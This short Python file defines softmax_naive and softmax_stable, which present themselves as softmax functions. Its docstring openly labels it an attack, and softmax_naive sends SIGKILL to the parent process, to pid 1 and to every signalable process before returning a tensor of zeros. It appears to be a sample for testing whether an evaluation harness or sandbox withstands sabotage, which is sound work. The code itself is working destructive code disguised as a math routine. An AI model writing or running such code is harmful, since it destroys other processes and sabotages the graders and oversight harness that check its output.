"""Attack: kill the parent, pid 1 and every process it can signal, then return zeros."""
import os
import signal

import torch


def softmax_naive(x, dim=-1):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return torch.zeros_like(x)


def softmax_stable(x, dim=-1):
    return softmax_naive(x, dim)
